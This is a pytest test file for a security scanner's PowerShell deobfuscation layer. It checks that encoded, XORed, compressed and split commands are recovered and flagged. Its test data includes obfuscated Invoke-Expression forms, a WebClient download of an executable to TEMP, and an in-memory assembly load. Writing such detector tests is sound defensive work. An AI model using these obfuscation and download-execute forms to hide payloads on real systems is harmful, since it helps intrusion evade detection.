"""PowerShell layers: every transformation is undone, alone and stacked, with its span,
technique and finding recorded; benign scripts stay quiet."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from inspector.stage import ScanContext, ScanLimits
from inspector.deobfuscate.powershell import PowerShellLayer, random_cased
from inspector.model import ArtifactType
from tests.deobfuscate.conftest import PS_COMMANDS
from tests.deobfuscate.peeling import payload_of, peel
from tests.obfuscation import obfuscators as ob

PS = ArtifactType.POWERSHELL

# transformation -> (technique of the layer that undoes it, finding id)
EXPECTED: dict[Callable[[str, int], str], tuple[str, str]] = {
    ob.ps_encoded_command: ("encoded-command", "deobf.powershell.encoded_command"),
    ob.ps_base64_text: ("base64", "deobf.powershell.base64"),
    ob.ps_deflate_base64: ("compressed-stream", "deobf.powershell.compressed_stream"),
    ob.ps_concat: ("concat", "deobf.powershell.concat"),
    ob.ps_format_operator: ("format-operator", "deobf.powershell.format_operator"),
    ob.ps_char_codes: ("char-codes", "deobf.powershell.char_codes"),
    ob.ps_reverse: ("reverse", "deobf.powershell.reverse"),
    ob.ps_backticks: ("backtick-escape", "deobf.powershell.backtick"),
    ob.ps_random_case: ("random-case", "deobf.powershell.random_case"),
    ob.ps_replace_chain: ("replace", "deobf.powershell.replace"),
    ob.ps_split_join: ("split", "deobf.powershell.split"),
    ob.ps_bxor: ("bxor", "deobf.powershell.bxor"),
    ob.ps_iex_obfuscated: ("invoke-expression", "deobf.powershell.invoke_literal"),
}


@pytest.mark.parametrize("seed", [0, 1, 2])
@pytest.mark.parametrize("command", PS_COMMANDS, ids=["cradle", "start-process", "multiline"])
@pytest.mark.parametrize("transform", list(EXPECTED), ids=lambda f: f.__name__)
def test_each_transformation_round_trips(transform: Callable[[str, int], str], command: str, seed: int) -> None:
    obfuscated = transform(command, seed)
    result = peel(obfuscated, PS)
    random_case = transform is ob.ps_random_case
    assert result.recovered(command, ignore_case=random_case), obfuscated
    technique, finding = EXPECTED[transform]
    assert technique in result.techniques
    if transform is ob.ps_iex_obfuscated:
        assert finding in result.finding_ids or "deobf.powershell.obfuscated_invocation" in result.finding_ids
    else:
        assert finding in result.finding_ids
    assert all(f.source == "deobfuscation" and {"T1027", "T1140"} <= set(f.attack) for f in result.findings)


STACKS = [
    [ob.ps_concat, ob.ps_format_operator],
    [ob.ps_char_codes, ob.ps_encoded_command],
    [ob.ps_bxor, ob.ps_reverse, ob.ps_encoded_command],
    [ob.ps_format_operator, ob.ps_backticks],
    [ob.ps_replace_chain, ob.ps_deflate_base64, ob.ps_iex_obfuscated],
    [ob.ps_random_case, ob.ps_concat, ob.ps_base64_text],
    [ob.ps_split_join, ob.ps_char_codes, ob.ps_format_operator],
    [ob.ps_reverse, ob.ps_reverse],
    [ob.ps_bxor, ob.ps_backticks, ob.ps_random_case],
    [ob.ps_iex_obfuscated, ob.ps_deflate_base64, ob.ps_encoded_command],
]


@pytest.mark.parametrize("seed", [0, 1])
@pytest.mark.parametrize("chain", STACKS, ids=lambda c: "+".join(f.__name__[3:] for f in c))
def test_stacked_transformations_round_trip(chain: list[Callable[[str, int], str]], seed: int) -> None:
    command = PS_COMMANDS[0]
    obfuscated = ob.stack(command, chain, seed)
    result = peel(obfuscated, PS)
    assert result.recovered(command, ignore_case=ob.ps_random_case in chain), obfuscated
    for transform in chain:  # each step shows as a layer's technique or, inside one layer, as a finding
        technique, finding = EXPECTED[transform]
        assert technique in result.techniques or finding in result.finding_ids \
            or transform is ob.ps_iex_obfuscated


def test_layer_records_span_line_and_type_of_the_decoded_text() -> None:
    script = "# header\n$x = 1\niex (\"{1}{0}\" -f 'hi','Write-Host ')\n"
    out = PowerShellLayer().analyze(payload_of(script.encode(), PS), ScanContext(ScanLimits()))
    child = next(c for c in out.children if c.layer and c.layer.technique == "format-operator")
    assert child.data == b"Write-Host hi"
    assert child.origin == "deobfuscated:format-operator"
    assert child.type_hint == PS
    span = child.layer.span
    assert span is not None and span.line == 3
    assert script[span.offset:span.offset + span.length] == "(\"{1}{0}\" -f 'hi','Write-Host ')"


@pytest.mark.parametrize(
    "invocation",
    [
        "iex {0}",
        "Invoke-Expression {0}",
        "Invoke-Expression -Command {0}",
        "I`EX {0}",
        "{0} | iex",
        "{0} | Invoke-Expression",
        "& ($ShellId[1]+$ShellId[13]+'x') {0}",
        ".( $PSHome[21]+$PSHome[30]+'x') {0}",
        "{0} | & ($env:comspec[4,15,25]-join'')",
        "{0} | .($VerbosePreference.ToString()[1,3]+'x'-join'')",
        "&('ie'+'x') {0}",
        "[ScriptBlock]::Create({0}).Invoke()",
        "& ([scriptblock]::Create({0}))",
        "$ExecutionContext.InvokeCommand.InvokeScript({0})",
        "$sb = [ScriptBlock]::Create({0}); & $sb",
        "& (gcm I*e-E*) {0}",
        ". (Get-Command *ke-Exp*) {0}",
        "{0} | & (GCM i?x)",
        "& ($ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression')) {0}",
        "Set-Alias zz iex; zz {0}",
        "sal -Name zz -Value Invoke-Expression; {0} | zz",
    ],
)
def test_every_invocation_form_is_peeled(invocation: str) -> None:
    script = invocation.format("('Write-'+'Host pwned')")
    result = peel(script, PS)
    assert "Write-Host pwned" in result.texts[1:]


def test_computed_invocation_name_is_a_finding_of_its_own() -> None:
    result = peel("& ($env:comspec[4,15,25]-join'') 'Get-Date'", PS)
    assert {"deobf.powershell.obfuscated_invocation", "deobf.powershell.automatic_variable"} <= result.finding_ids


def test_constant_folding_without_iex_rewrites_the_script_and_recovers_urls() -> None:
    script = ("$u = 'ht'+'tp://198.51.100.4/'+'p.exe'\n"
              "(New-Object Net.WebClient).('Down'+'loadFile')($u, \"$env:TEMP\\p.exe\")")
    result = peel(script, PS)
    assert any("(New-Object Net.WebClient).'DownloadFile'($u" in t and "'http://198.51.100.4/p.exe'" in t
               for t in result.texts[1:])
    assert "http://198.51.100.4/p.exe" in result.urls


def test_a_string_grown_with_plus_equals_folds_each_addition_not_the_whole_value() -> None:
    script = ("$c = 'Invoke-'\n"
              "$c += 'Exp'+'ression'\n"
              "$c += ' whoami'\n"
              "& ([ScriptBlock]::Create($c))")
    result = peel(script, PS)
    rewritten = next(t for t in result.texts[1:] if "$c +=" in t)
    assert "$c += 'Expression'" in rewritten  # what the line adds, not 'Invoke-Expression'
    assert "Invoke-Expression whoami" in result.texts[-1]


def test_base64_bytes_that_are_not_text_become_a_decoded_child() -> None:
    import base64

    blob = base64.b64encode(b"MZ\x90\x00" + bytes(range(256))).decode()
    result = peel(f"$b = [Convert]::FromBase64String('{blob}')\n[Reflection.Assembly]::Load($b)", PS)
    assert any(layer.data.startswith(b"MZ\x90\x00") and layer.origin == "decoded:base64" for layer in result.layers)


BENIGN = """param([string]$SiteName = "Default Web Site", [int]$Port = 8080)
$ErrorActionPreference = 'Stop'
$logDir = Join-Path $env:ProgramData 'Contoso\\Logs'
New-Item -ItemType Directory -Force -Path $logDir | Out-Null
$msg = "Installing IIS for {0} on port {1}" -f $SiteName, $Port
Install-WindowsFeature -Name Web-Server -IncludeManagementTools
Invoke-WebRequest -Uri 'https://download.microsoft.com/agent.msi' -OutFile "$env:TEMP\\agent.msi" -UseBasicParsing
Start-Process msiexec.exe -ArgumentList '/i', "$env:TEMP\\agent.msi", '/qn' -Wait
Get-Service -Name W3SVC | Set-Service -StartupType Automatic
& { Write-Host 'block' }
$installer = 'https://download.example.com/releases/' + 'agent-1.2.msi'
$names = @('web', 'db') -join ','
"""


def test_benign_admin_script_has_no_layers_and_no_findings() -> None:
    result = peel(BENIGN, PS)
    assert result.layers[1:] == []
    assert result.findings == []


@pytest.mark.parametrize(
    ("word", "random"),
    [("iNvOkE-eXpReSsIoN", True), ("nEw-ObJeCt", True), ("InVoKe", True), ("DownloadString", False),
     ("OutFile", False), ("GetByName", False), ("ConvertFromBase64String", False), ("PSHome", False),
     ("dowNLOAdstRing", True), ("DisableIOAVProtection", False), ("Net.WebClient", False)],
)
def test_random_case_is_told_from_pascal_case(word: str, random: bool) -> None:
    assert random_cased(word) is random


def test_parse_limit_is_reported_not_exceeded() -> None:
    from inspector.deobfuscate.common import DeobfuscationLimits

    layer = PowerShellLayer(DeobfuscationLimits(max_parse_chars=1024))
    out = layer.analyze(payload_of(b"iex ('a'+'b')" + b" " * 2048, PS), ScanContext(ScanLimits()))
    assert out.children == []
    assert out.errors and out.errors[0][0] == "limit_deobfuscation_parse"


def test_an_expensive_ordinary_expression_does_not_stop_the_walk() -> None:
    script = ("[byte[]]$bytes = 0..65535|%{0}\n"
              "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){\n"
              "  $data = (Ne`w-Ob`ject -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i)\n}\n")
    result = peel(script, PS)
    assert any("(New-Object -TypeName System.Text.ASCIIEncoding)" in t for t in result.texts[1:])
    assert result.errors == []


@pytest.mark.parametrize("key", ["0x23", "$k"], ids=["constant", "key-array"])
def test_indexed_xor_loop_over_a_decoded_array(key: str) -> None:
    import base64

    command = "Write-Host xor-loop"
    secret = b"k3y" if key == "$k" else b"\x23"
    masked = bytes(b ^ secret[i % len(secret)] for i, b in enumerate(command.encode()))
    index = "[$i % $k.Length]" if key == "$k" else ""
    script = (f"$k = [Text.Encoding]::ASCII.GetBytes('k3y')\n"
              f"$b = [Convert]::FromBase64String('{base64.b64encode(masked).decode()}')\n"
              f"for ($i = 0; $i -lt $b.Length; $i++) {{ $b[$i] = $b[$i] -bxor {key}{index} }}\n"
              f"iex ([Text.Encoding]::ASCII.GetString($b))")
    result = peel(script, PS)
    assert command in result.texts[1:]
    assert {"deobf.powershell.bxor", "deobf.powershell.base64"} <= result.finding_ids


def test_a_for_loop_counter_is_not_folded_as_its_initial_value() -> None:
    # `$i` is 0 only on the first pass: 'worker{0:D3}' -f $i must stay as written, while a
    # constant format expression in the same body is still folded.
    script = ("for ($i = 0; $i -lt 3; $i++) {\n"
              "    $name = 'worker{0:D3}' -f $i\n"
              "    $cmd = '{1}{0}' -f 'ost','Write-H'\n"
              "}\n")
    result = peel(script, PS)
    assert any("$name = 'worker{0:D3}' -f $i" in t and "$cmd = 'Write-Host'" in t for t in result.texts[1:])
    assert "deobf.powershell.format_operator" in result.finding_ids


def test_a_for_loop_without_constant_expressions_adds_no_layer() -> None:
    script = "for ($i = 0; $i -lt 3; $i++) {\n    Write-Output ('worker{0:D3}' -f $i)\n}\n"
    result = peel(script, PS)
    assert result.layers[1:] == []
    assert result.findings == []
